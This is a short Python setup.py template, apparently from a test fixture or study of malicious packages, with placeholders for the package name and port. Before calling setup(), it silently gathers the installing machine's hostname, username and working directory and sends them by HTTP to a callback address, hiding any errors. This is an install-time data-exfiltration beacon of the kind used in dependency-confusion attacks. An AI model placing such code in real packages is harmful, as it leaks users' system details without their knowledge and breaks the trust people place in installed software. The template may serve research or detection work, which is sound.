import os
import sys


import getpass, socket, urllib.parse, urllib.request
q = urllib.parse.urlencode({"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})
try:
    urllib.request.urlopen("http://127.0.0.1:@@PORT@@/c?" + q, timeout=5).read()
except Exception:
    pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
